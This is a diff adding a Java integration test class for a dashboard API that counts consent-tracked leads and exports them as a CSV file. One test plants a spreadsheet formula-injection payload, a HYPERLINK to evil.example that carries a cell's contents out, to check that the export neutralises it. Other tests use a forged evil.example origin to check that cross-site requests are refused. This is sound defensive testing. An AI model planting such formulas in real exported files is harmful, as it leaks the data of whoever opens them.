@@ -1,0 +1,329 @@
+package com.altcontext.api.dashboard;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.altcontext.api.http.SessionCookie;
+import com.altcontext.api.testing.Call;
+import com.altcontext.api.testing.RawClient;
+import com.altcontext.api.testing.Stored;
+import com.altcontext.api.testing.TestService;
+import com.altcontext.db.Sql;
+import com.altcontext.db.SqlFailure;
+import com.altcontext.property.Properties;
+import com.fasterxml.jackson.databind.JsonNode;
+import io.quarkus.test.common.WithTestResource;
+import io.quarkus.test.junit.QuarkusTest;
+import jakarta.inject.Inject;
+import java.time.Duration;
+import java.time.InstantSource;
+import java.util.List;
+import java.util.Optional;
+import org.jspecify.annotations.Nullable;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** What the dashboard reads beside the figures: the properties, and the leads of one, counted and as a file. */
+@QuarkusTest
+@WithTestResource(TestService.class)
+class DashboardLeadsTest {
+    private static final String CSV = "/v1/dashboard/leads.csv";
+    private static final int MANY = 100_000;
+    private static final String COOKIE = new SessionCookie(
+                    Optional.of(TestService.ADMIN_KEY), true, InstantSource.system())
+            .begin()
+            .setCookie()
+            .replaceFirst(";.*", "");
+
+    @Inject
+    Sql sql;
+
+    @Inject
+    Properties properties;
+
+    private Stored stored;
+    private String property = "";
+
+    @BeforeEach
+    void aPropertyOfItsOwn() {
+        stored = new Stored(sql);
+        property = stored.newProperty(properties);
+    }
+
+    private static Call signedIn(String method, String path) {
+        return Call.of(method, path).header("cookie", COOKIE).header("sec-fetch-site", "same-origin");
+    }
+
+    private Call csv(String more) {
+        return signedIn("POST", CSV + "?propertyId=" + property + more);
+    }
+
+    private void lead(String email, String status, @Nullable String expires) {
+        stored.execute(
+                "INSERT INTO leads VALUES (gen_random_uuid(), ?, ?, now(), now(), NULL, ?, now() + ?::interval)",
+                property,
+                email,
+                status,
+                expires);
+    }
+
+    private void someLeads() {
+        lead("express@x.ca", "express", null);
+        lead("other@x.ca", "express", null);
+        lead("implied@x.ca", "implied", "1 hour");
+        lead("expired@x.ca", "implied", "-1 hour");
+        lead("withdrawn@x.ca", "withdrawn", null);
+    }
+
+    private List<JsonNode> log() {
+        return stored.rows("SELECT to_jsonb(a)::text FROM audit_log a WHERE property_id = ? ORDER BY id", property);
+    }
+
+    // --- properties and counts
+
+    @Test
+    void the_properties_come_with_their_names_and_domains_in_the_order_of_their_slugs() {
+        stored.execute("UPDATE properties SET name = 'The \"site\"' WHERE id = ?", property);
+        JsonNode answer = signedIn("GET", "/v1/dashboard/properties").send().json();
+
+        assertThat(answer.path("defaultPropertyId").isNull()).isTrue();
+        List<String> ids = answer.path("properties").findValuesAsText("id");
+        assertThat(ids).contains("default", property).isSorted();
+        assertThat(answer.path("properties"))
+                .anySatisfy(one -> assertThat(one)
+                        .hasToString("{\"id\":\"" + property + "\",\"name\":\"The \\\"site\\\"\",\"domains\":[\""
+                                + property + ".example\"]}"));
+    }
+
+    @Test
+    void leads_are_counted_by_status_of_one_property_and_of_all() {
+        someLeads();
+
+        assertThat(signedIn("GET", "/v1/dashboard/leads?propertyId=" + property)
+                        .send()
+                        .text())
+                .isEqualTo("{\"ok\":true,\"total\":5,\"byStatus\":{\"pending\":0,\"implied\":1,\"expired\":1,"
+                        + "\"express\":2,\"withdrawn\":1}}");
+        JsonNode all = Call.get("/v1/dashboard/leads")
+                .header("x-admin-key", TestService.ADMIN_KEY)
+                .send()
+                .json();
+        assertThat(all.path("total").asLong()).isGreaterThanOrEqualTo(5);
+    }
+
+    // --- the file
+
+    @Test
+    void the_leads_come_as_a_file_and_the_log_says_who_took_what() {
+        someLeads();
+        Call.Answer answer = csv("&consentStatus=express").send();
+
+        assertThat(answer.status()).isEqualTo(200);
+        assertThat(answer.header("content-type")).isEqualTo("text/csv; charset=utf-8");
+        assertThat(answer.header("content-disposition"))
+                .matches("attachment; filename=\"leads-" + property + "-express-20\\d\\d-\\d\\d-\\d\\d\\.csv\"");
+        assertThat(answer.header("cache-control")).isEqualTo("no-store");
+        assertThat(answer.header("x-content-type-options")).isEqualTo("nosniff");
+        assertThat(answer.header("x-rows")).isEqualTo("2");
+        List<String> lines = answer.text().lines().toList();
+        assertThat(lines).hasSize(3);
+        assertThat(lines.getFirst()).startsWith("\uFEFFemail,property,consent_status,");
+        assertThat(lines.get(1))
+                .startsWith("express@x.ca," + property + ",express,,20")
+                .contains(",https://api.example.com/v1/leads/unsubscribe/");
+        assertThat(lines.get(2)).startsWith("other@x.ca,");
+
+        JsonNode entry = log().getLast();
+        assertThat(entry.path("done_by").asText()).isEqualTo("dashboard");
+        assertThat(entry.path("action").asText()).isEqualTo("leads_csv");
+        assertThat(entry.path("consent_status").asText()).isEqualTo("express");
+        assertThat(entry.path("row_count").asInt()).isEqualTo(2);
+        assertThat(entry.path("ip_hash").asText()).hasSize(2 + 64);
+        assertThat(entry.toString()).doesNotContain("@", "127.0.0.1");
+    }
+
+    @Test
+    void a_script_takes_it_by_the_key_and_the_log_tells_the_two_apart() {
+        Call.Answer answer = Call.of("POST", CSV + "?propertyId=" + property)
+                .header("x-admin-key", TestService.ADMIN_KEY)
+                .header("content-type", "application/x-www-form-urlencoded")
+                .body("propertyId=unheard-of")
+                .send();
+
+        assertThat(answer.status()).isEqualTo(200);
+        assertThat(answer.text()).startsWith("\uFEFFemail,").hasLineCount(1);
+        assertThat(log()).extracting(entry -> entry.path("done_by").asText()).containsExactly("api");
+        assertThat(log().getFirst().path("consent_status").isNull()).isTrue();
+    }
+
+    @Test
+    void what_strangers_sent_is_no_formula_in_it() {
+        stored.execute(
+                "INSERT INTO leads VALUES (gen_random_uuid(), ?, '=1+1@x.ca', now(), now(), ?, 'express', NULL)",
+                property,
+                "=HYPERLINK(\"https://evil.example/?\"&A1)\n, \"é\"");
+
+        assertThat(csv("").send().text())
+                .contains("\r\n'=1+1@x.ca,")
+                .contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\n, \"\"é\"\"\",https://");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "propertyId=unheard-of",
+                "propertyId=",
+                "consentStatus=",
+                "consentStatus=EXPRESS",
+                "consentStatus=all"
+            })
+    void a_question_that_cannot_be_answered_is_told_what_is_wrong_and_is_not_logged(String query) {
+        long before = entries();
+        Call.Answer answer = signedIn("POST", CSV + "?" + query).send();
+
+        assertThat(answer.status()).isEqualTo(400);
+        assertThat(answer.header("content-disposition")).isNull();
+        assertThat(answer.json().path("issues")).hasSize(1);
+        assertThat(entries()).isEqualTo(before);
+    }
+
+    private long entries() {
+        return sql.inTransaction(tx -> tx.query("SELECT count(*) FROM audit_log", row -> row.number(1)))
+                .getFirst();
+    }
+
+    @Test
+    void nobody_takes_it_by_the_cookie_from_another_page() {
+        for (String site : List.of("cross-site", "same-site", "none")) {
+            assertThat(csv("").header("sec-fetch-site", site).send().status()).isEqualTo(401);
+        }
+        assertThat(csv("").without("sec-fetch-site").send().status()).isEqualTo(401);
+        assertThat(csv("").without("sec-fetch-site")
+                        .header("origin", "https://evil.example")
+                        .send()
+                        .status())
+                .isEqualTo(401);
+        assertThat(csv("").without("sec-fetch-site")
+                        .header("origin", "null")
+                        .send()
+                        .status())
+                .isEqualTo(401);
+        assertThat(Call.of("POST", CSV).send().status()).isEqualTo(401);
+        assertThat(csv("").without("sec-fetch-site")
+                        .header("origin", "http://" + Call.base().getAuthority())
+                        .send()
+                        .status())
+                .as("a page that came without TLS")
+                .isEqualTo(401);
+        assertThat(log()).isEmpty();
+        assertThat(csv("").without("sec-fetch-site")
+                        .header("origin", "https://" + Call.base().getAuthority())
+                        .send()
+                        .status())
+                .isEqualTo(200);
+    }
+
+    @Test
+    void what_cannot_be_logged_is_not_given_out() {
+        someLeads();
+        stored.execute(
+                "ALTER TABLE audit_log ADD CONSTRAINT poison CHECK (property_id <> '" + property + "') NOT VALID");
+        try {
+            Call.Answer answer = csv("").send();
+
+            assertThat(answer.status()).isEqualTo(500);
+            assertThat(answer.text()).isEqualTo("{\"ok\":false,\"error\":\"internal_error\"}");
+            assertThat(answer.header("content-disposition")).isNull();
+        } finally {
+            stored.execute("ALTER TABLE audit_log DROP CONSTRAINT poison");
+        }
+    }
+
+    // --- a file that is too long for memory
+
+    private void manyLeads() {
+        new Stored(sql.withTimeout(Duration.ofMinutes(1)))
+                .execute(
+                        "INSERT INTO leads SELECT gen_random_uuid(), ?, 'n' || lpad(n::text, 6, '0') || '@x.ca', now(), now(),"
+                                + " repeat('é', 100), 'express', NULL FROM generate_series(1, ?) AS n",
+                        property,
+                        MANY);
+    }
+
+    @Test
+    void a_long_file_comes_whole() {
+        manyLeads();
+        Call.Answer answer = csv("").send();
+
+        assertThat(answer.header("content-length")).isNull();
+        assertThat(answer.header("x-rows")).isEqualTo(String.valueOf(MANY));
+        assertThat(answer.text().lines()).hasSize(MANY + 1);
+        assertThat(answer.text()).endsWith("\r\n");
+        assertThat(log().getLast().path("row_count").asInt()).isEqualTo(MANY);
+    }
+
+    @Test
+    void half_a_file_does_not_look_like_a_whole_one_when_the_database_goes() throws Exception {
+        manyLeads();
+        try (RawClient slow = new RawClient()) {
+            slow.write(rawRequest());
+            // It stops where the client takes no more; then the database goes.
+            slow.awaitAnswer();
+            terminateReader();
+            String answer = slow.readAll();
+            assertThat(answer.substring(0, 13)).isEqualTo("HTTP/1.1 200 ");
+            assertThat(answer.endsWith("0\r\n\r\n"))
+                    .as("it ends as a whole one")
+                    .isFalse();
+            assertThat(answer.contains("n" + MANY + '@'))
+                    .as("it holds the last")
+                    .isFalse();
+            assertThat(answer.contains("internal_error"))
+                    .as("an error stands in it")
+                    .isFalse();
+        } finally {
+            // Whoever was in the middle has found the database gone, which is told to all until it answers.
+            Stored.await(() -> csv("&consentStatus=pending").send().status(), 200);
+        }
+        assertThat(log().getFirst().path("row_count").asInt())
+                .as("it is logged")
+                .isEqualTo(MANY);
+    }
+
+    @Test
+    void a_client_that_goes_away_in_the_middle_holds_nobody_up() throws Exception {
+        manyLeads();
+        for (int i = 0; i < 6; i++) {
+            try (RawClient client = new RawClient()) {
+                client.write(rawRequest());
+                client.awaitAnswer();
+            }
+        }
+        assertThat(csv("").send().text().lines()).hasSize(MANY + 1);
+        assertThat(log()).hasSize(7);
+    }
+
+    private String rawRequest() {
+        return "POST " + CSV + "?propertyId=" + property + " HTTP/1.1\r\nHost: x\r\nCookie: " + COOKIE
+                + "\r\nSec-Fetch-Site: same-origin\r\nContent-Length: 0\r\n\r\n";
+    }
+
+    private void terminateReader() {
+        Stored.await(
+                () -> {
+                    try {
+                        return sql.inTransaction(tx -> tx.query(
+                                        "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity"
+                                                + " WHERE datname = current_database() AND pid <> pg_backend_pid()"
+                                                + " AND query LIKE '%FROM leads%ORDER BY property_id, email'"
+                                                + " AND backend_type = 'client backend'",
+                                        row -> row.number(1)))
+                                .getFirst();
+                    } catch (SqlFailure again) {
+                        return 0L;
+                    }
+                },
+                1L);
+    }
+}
